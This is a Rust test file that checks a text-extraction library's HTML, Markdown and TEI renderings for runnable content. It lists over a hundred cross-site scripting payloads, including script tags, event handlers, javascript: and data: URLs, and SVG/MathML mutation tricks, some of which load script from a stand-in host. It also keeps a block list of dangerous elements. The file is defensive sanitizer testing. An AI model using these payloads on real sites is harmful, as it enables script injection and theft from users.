//! Nothing that a page says is run by whoever shows its renderings.
//!
//! In: pages with the published ways to smuggle a script into a text, all of their blocks kept. Out: nothing. What holds:
//! the HTML, the Markdown (as HTML that a renderer makes of it, which lets HTML through) and the TEI, each read again by a
//! browser's parser, have no element that runs or loads anything but images, no handler, no style and no address of a
//! scheme that runs; and they say the words of the body.

#![cfg(feature = "html")]

mod common;

use bodytext::content::{Parts, content};
use bodytext::render::{SCHEMES, html, html_document, markdown, tei};
use bodytext::{Extraction, Extractor, Hints};
use common::facts::{Facts, of_content};
use common::html::of_html;
use common::keep_all;
use common::tei::{broken, of_tei};
use pulldown_cmark::{Options, Parser};
use scraper::{ElementRef, Html, Selector};
use url::Url;

/// Markup with a script in it, by the way it tries.
const MARKUP: &[&str] = &[
    // scripts
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script >",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>/*<!--*/alert(1)//--></script>",
    "<script><!-- <script> --></script>alert(1)</script>",
    "<noscript><p title=\"</noscript><script>alert(1)</script>\">x</p></noscript>",
    "<script type=module>import('//evil.example')</script>",
    // handlers
    "<img src=x onerror=alert(1)>",
    "<img src='x' oNeRrOr='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\tonerror\n=\nalert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<p onmouseover=alert(1)>words</p>",
    "<p onclick='alert(1)' style='width:100%'>words</p>",
    "<div onpointerenter=alert(1)><p>words</p></div>",
    "<details open ontoggle=alert(1)><summary>words</summary><p>more</p></details>",
    "<p><input autofocus onfocus=alert(1)>words</p>",
    "<p><select autofocus onfocus=alert(1)><option>words</select></p>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onloadstart=alert(1)>words</video>",
    "<audio src onerror=alert(1)>words</audio>",
    "<marquee onstart=alert(1)>words</marquee>",
    "<p id=x tabindex=1 onfocusin=alert(1)>words</p>",
    "<table background='javascript:alert(1)' onclick=alert(1)><tr><td onclick=alert(1)>a<td>b<tr><td>c<td>d</table>",
    // addresses
    "<p><a href='javascript:alert(1)'>words</a></p>",
    "<p><a href='JaVaScRiPt:alert(1)'>words</a></p>",
    "<p><a href=javascript:alert(1)>words</a></p>",
    "<p><a href=' javascript:alert(1)'>words</a></p>",
    "<p><a href='java\tscript:alert(1)'>words</a></p>",
    "<p><a href='java\nscript:alert(1)'>words</a></p>",
    "<p><a href='java\rscript:alert(1)'>words</a></p>",
    "<p><a href='java&#9;script:alert(1)'>words</a></p>",
    "<p><a href='java&NewLine;script&colon;alert&lpar;1&rpar;'>words</a></p>",
    "<p><a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>words</a></p>",
    "<p><a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>words</a></p>",
    "<p><a href='&#0000106avascript:alert(1)'>words</a></p>",
    "<p><a href='\u{1}javascript:alert(1)'>words</a></p>",
    "<p><a href='\u{0}javascript:alert(1)'>words</a></p>",
    "<p><a href='\u{a0}javascript:alert(1)'>words</a></p>",
    "<p><a href='javascript\u{200b}:alert(1)'>words</a></p>",
    "<p><a href='javascript://a.example/%0aalert(1)'>words</a></p>",
    "<p><a href='vbscript:msgbox(1)'>words</a></p>",
    "<p><a href='livescript:x'>words</a></p>",
    "<p><a href='data:text/html,<script>alert(1)</script>'>words</a></p>",
    "<p><a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>words</a></p>",
    "<p><a href='data:image/svg+xml,<svg onload=alert(1)>'>words</a></p>",
    "<p><a href='blob:https://a.example/x'>words</a> <a href='file:///etc/passwd'>words</a></p>",
    "<p><a href='view-source:javascript:alert(1)'>words</a> <a href='feed:javascript:alert(1)'>more</a></p>",
    "<p><a href='https://a.example/\"onclick=\"alert(1)'>words</a></p>",
    "<p><a href=\"https://a.example/'><script>alert(1)</script>\">words</a></p>",
    "<p><a href='/x)(javascript:alert(1)'>words</a> <a href='/> <script>alert(1)</script>'>more</a></p>",
    "<p><img src='javascript:alert(1)' alt=words></p>",
    "<p><img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+' alt=words></p>",
    "<p><img src=/x.png srcset='javascript:alert(1) 2x' longdesc=javascript:alert(1) alt=words></p>",
    "<p><a href=/x ping=//evil.example target=_blank xlink:href=javascript:alert(1)>words</a></p>",
    "<blockquote cite='javascript:alert(1)'><p>words</p></blockquote>",
    "<map><area href=javascript:alert(1)></map><p><img usemap=#x src=/x.png alt=words></p>",
    // foreign namespaces
    "<svg onload=alert(1)><text>words</text></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>words</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></set></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe><p>words</p></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><desc><p title='</desc><script>alert(1)</script>'>words</p></desc></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'></use></svg>",
    "<math href=javascript:alert(1)><mtext>words</mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>words</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script><p>words</p></annotation-xml></math>",
    "<math><annotation encoding='application/x-tex'>\\href{javascript:alert(1)}{x}</script><img src=x onerror=alert(1)></annotation></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    // texts that change when they are parsed again
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<style><p title='</style><img src=x onerror=alert(1)>'></style>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<p>words</p><plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]><p>&y;</p>",
    "<?xml version='1.0'?><?php alert(1) ?><p>words</p>",
    "</ script><p>words</p></x onclick=alert(1)>",
    "<a/><p><select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src=x onerror=alert(1)>\">",
    // styles
    "<p style='background:url(javascript:alert(1))'>words</p>",
    "<p style='width: expression(alert(1))'>words</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#y)'>words</p>",
    "<style>@import 'javascript:alert(1)'; p{behavior:url(x.htc)}</style><p>words</p>",
    "<link rel=stylesheet href=javascript:alert(1)><p>words</p>",
    // documents, frames, forms, objects
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><p>words</p>",
    "<meta http-equiv=Set-Cookie content='a=<script>alert(1)</script>'><p>words</p>",
    "<base href='javascript:alert(1)//'><p><a href=/x>words</a></p>",
    "<form action=javascript:alert(1)><p>words</p><button>go</button></form>",
    "<p>words<button form=x formaction=javascript:alert(1)>go</button></p>",
    "<p>words<input type=image src=javascript:alert(1)><isindex action=javascript:alert(1)></p>",
    "<object data=javascript:alert(1)><p>words</p></object>",
    "<object type=text/x-scriptlet data=//evil.example></object>",
    "<embed src=javascript:alert(1)><p>words</p>",
    "<applet code=x><param name=y value=javascript:alert(1)><p>words</p></applet>",
    "<template><script>alert(1)</script><p>words</p></template>",
    "<p>words</p><template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<portal src=javascript:alert(1)></portal><p>words</p>",
    "<body onload=alert(1)><p>words</p>",
    "<html onclick=alert(1)><p>words</p>",
    "<x-element is=script onclick=alert(1)><p>words</p></x-element>",
    // attributes that are written on
    "<pre><code class='language-x\"><script>alert(1)</script>'>words</code></pre>",
    "<pre><code data-lang='\" onclick=\"alert(1)' class=lang-js>words</code></pre>",
    "<ol start='1\" onclick=\"alert(1)'><li>words</ol>",
    "<table><tr><td colspan='2\" onclick=\"alert(1)'>a<td>b<tr><td rowspan='1e9 onclick'>c<td>d</table>",
    "<p id='x\" onclick=\"alert(1)' class='y\" onclick=\"alert(1)' lang='\"><script>alert(1)</script>'>words</p>",
];

/// Texts that are markup when somebody forgets to escape them.
const TEXTS: &[&str] = &[
    "<script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" onmouseover=\"alert(1)\" x=\"",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<svg/onload=alert(1)>",
    "[words](javascript:alert(1))",
    "[words]: javascript:alert(1)",
    "![words](data:image/svg+xml,x)",
    "<javascript:alert(1)>",
    "[words](<javascript:alert(1)> 'x')",
    "``` \n<script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "$\\href{javascript:alert(1)}{x}</span><script>alert(1)</script>$",
    "\\(</span><img src=x onerror=alert(1)>\\)",
    "| <script>alert(1)</script> | b |",
    "{{constructor.constructor('alert(1)')()}}",
    "\u{0}<\u{0}script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞ ‹img onerror›",
];

/// Places of a body that take a text.
const PLACES: &[&str] = &[
    "<p>TEXT</p>",
    "<h2>TEXT</h2>",
    "<p><b>TEXT</b><a href='/x'>TEXT</a><code>TEXT</code><del>TEXT</del></p>",
    "<ul><li>TEXT<ol><li>TEXT</ol></ul>",
    "<dl><dt>TEXT<dd>TEXT</dl>",
    "<pre><code class=language-html>TEXT</code></pre>",
    "<table><caption>TEXT</caption><tr><th>TEXT<th>TEXT<tr><td>TEXT<td><p>TEXT</p></table>",
    "<figure><img src=/x.png alt='TEXT' title='TEXT' width=300 height=300><figcaption>TEXT</figcaption></figure>",
    "<p>words <img src='/TEXT' alt='TEXT'> words</p>",
    "<p>words <a href='/TEXT' title='TEXT'>words</a></p>",
    "<blockquote><p>TEXT</p></blockquote><details><summary>TEXT</summary><p>TEXT</p></details>",
    "<p>words<sup><a href='#n1'>1</a></sup></p><p>words</p><ol><li id=n1>TEXT <a href='#r1'>↩</a></ol>",
    "<math><semantics><annotation encoding='application/x-tex'>TEXT</annotation></semantics></math><p>words</p>",
    "<p><ruby>TEXT<rt>TEXT</rt></ruby><sub>TEXT</sub></p>",
];

/// The elements of HTML that run or load something, or change how the rest is read.
const FORBIDDEN: [&str; 30] = [
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "select",
    "textarea",
    "svg",
    "math",
    "template",
    "noscript",
    "noembed",
    "noframes",
    "plaintext",
    "xmp",
    "base",
    "portal",
    "video",
    "audio",
    "source",
    "isindex",
    "marquee",
    "map",
    "area",
];

/// Elements that only a document may have, and only in its head.
const HEAD: [&str; 3] = ["meta", "link", "title"];

/// What could run in something that a browser reads.
fn running(written: &str, is_document: bool) -> Vec<String> {
    let html = if is_document { Html::parse_document(written) } else { Html::parse_fragment(written) };
    let all = Selector::parse("*").expect("a selector");
    let mut out = Vec::new();
    for element in html.select(&all) {
        let name = element.value().name();
        if FORBIDDEN.contains(&name) || (HEAD.contains(&name) && !is_document) {
            out.push(format!("<{name}>"));
        }
        if name == "meta" && element.attr("http-equiv").is_some() {
            out.push("http-equiv".to_owned());
        }
        out.extend(attributes(element));
    }
    out
}

fn attributes(element: ElementRef<'_>) -> Vec<String> {
    let runs = |(name, value): (&str, &str)| {
        let name = name.to_ascii_lowercase();
        let is_address = ["href", "src", "target", "url"].contains(&name.as_str());
        let known = name == "xml:lang" || name == "xml:space" || name == "xml:id" || !name.contains(':');
        let forbidden = ["style", "srcdoc", "srcset", "action", "formaction", "background", "ping", "cite"];
        name.starts_with("on") || forbidden.contains(&name.as_str()) || !known || (is_address && !is_harmless(value))
    };
    element.value().attrs().filter(|pair| runs(*pair)).map(|(name, value)| format!("{name}={value:?}")).collect()
}

/// Whether an address leads nowhere that runs, however loosely it is read.
fn is_harmless(address: &str) -> bool {
    let bare: String = address.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
    [address, bare.as_str()].into_iter().all(|address| match Url::parse(address) {
        Ok(url) => SCHEMES.contains(&url.scheme()),
        Err(_) => !address.split(['/', '?', '#']).next().unwrap_or_default().contains("script:"),
    })
}

/// Whatever could run in the renderings of a page, and what they do not say.
fn trouble(page: &Extraction) -> Vec<String> {
    let content = content(page, Parts::MARKUP);
    let fragment = html(&content);
    let document = tei(page, Parts::MARKUP);
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_FOOTNOTES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_MATH;
    let mut shown = String::new();
    pulldown_cmark::html::push_html(&mut shown, Parser::new_ext(&markdown(&content), options));
    let mut out = Vec::new();
    let mut say =
        |what: &str, wrong: Vec<String>| out.extend(wrong.into_iter().map(|wrong| format!("{what}: {wrong}")));
    say("HTML", running(&fragment, false));
    say("document", running(&html_document(page, Parts::MARKUP), true));
    say("Markdown", running(&shown, false));
    say("TEI", running(&document, true));
    say("TEI", broken(&document));
    let wanted = words(of_content(&content));
    say("HTML", words(of_html(&fragment)).difference(wanted).into_iter().collect());
    let wanted = words(of_content(&content));
    say("TEI", words(of_tei(&document)).difference(wanted).into_iter().collect());
    // Renderers of Markdown write the signs of footnotes as text.
    let wanted = words(of_content(&content));
    if content.notes.is_empty() {
        say("Markdown", words(of_html(&shown)).difference(wanted).into_iter().collect());
    }
    out
}

/// The words alone.
fn words(facts: Facts) -> Facts {
    Facts { words: facts.words, ..Facts::default() }
}

/// The pages that have a vector in them, with all blocks kept.
fn check(vectors: &[(String, String)]) {
    let extractor = Extractor::new(keep_all());
    let url = Hints { url: Some("https://a.example/b/c".into()), ..Hints::default() };
    let mut wrong = Vec::new();
    for (name, html) in vectors {
        for hints in [&url, &Hints::default()] {
            let page = extractor.extract(html.as_bytes(), hints);
            assert!(page.blocks().iter().all(|block| block.is_kept()), "{name}");
            assert!(page.text().contains("words before"), "{name}: {}", page.text());
            wrong.extend(trouble(&page).into_iter().map(|why| format!("{name}\n  {why}")));
        }
    }
    assert!(wrong.is_empty(), "{} wrong\n{}", wrong.len(), wrong[..wrong.len().min(15)].join("\n"));
}

fn around(body: &str) -> String {
    format!("<!doctype html><title>A page</title><body><p>words before</p>\n{body}\n<p>words behind</p>")
}

#[test]
fn no_markup_runs() {
    assert!(MARKUP.len() >= 100, "only {} vectors", MARKUP.len());
    let pages: Vec<_> = MARKUP.iter().map(|vector| ((*vector).to_owned(), around(vector))).collect();
    check(&pages);
    // Within other structure, where parsers move things about.
    for place in
        ["<ul><li>VECTOR<li>words</ul>", "<table><tr><td>VECTOR<td>b<tr><td>c<td>d</table>", "<h2>x VECTOR</h2>"]
    {
        let pages = MARKUP.iter().map(|vector| ((*vector).to_owned(), around(&place.replace("VECTOR", vector))));
        check(&pages.collect::<Vec<_>>());
    }
}

#[test]
fn no_text_becomes_markup() {
    let mut pages = Vec::new();
    for text in TEXTS {
        let escaped = text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('\'', "&#39;");
        let escaped = escaped.replace('"', "&quot;");
        for place in PLACES {
            pages.push((format!("{text:?} in {place}"), around(&place.replace("TEXT", &escaped))));
        }
    }
    check(&pages);
}

#[test]
fn no_metadata_becomes_markup() {
    let mut pages = Vec::new();
    for text in TEXTS {
        let escaped = text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;");
        let head = format!(
            "<!doctype html><html lang=\"{escaped}\"><head><title>{escaped}</title><meta name=author content=\"{escaped}\">\
             <meta name=description content=\"{escaped}\"><meta property=og:title content=\"{escaped}\">\
             <meta property=og:image content=\"{escaped}\"><link rel=canonical href=\"{escaped}\">\
             <link rel=license href=\"{escaped}\"><meta name=keywords content=\"{escaped}\">\
             <meta property=og:site_name content=\"{escaped}\"></head><body><h1>{escaped}</h1><p>words before</p>"
        );
        pages.push((format!("{text:?}"), head));
    }
    for href in ["javascript:alert(1)", "data:text/html,x", "vbscript:x"] {
        let head = format!(
            "<!doctype html><head><link rel=canonical href='{href}'><link rel=license href='{href}'>\
             <meta property=og:image content='{href}'></head><body><p>words before</p>"
        );
        pages.push((href.to_owned(), head));
    }
    check(&pages);
}

#[test]
fn plain_text_has_no_markup() {
    let extractor = Extractor::new(keep_all());
    for text in TEXTS.iter().chain(MARKUP) {
        let page = extractor.extract_text(&format!("words before\n\n{text}\n\nwords behind\n"));
        assert_eq!(trouble(&page), Vec::<String>::new(), "{text}");
    }
}
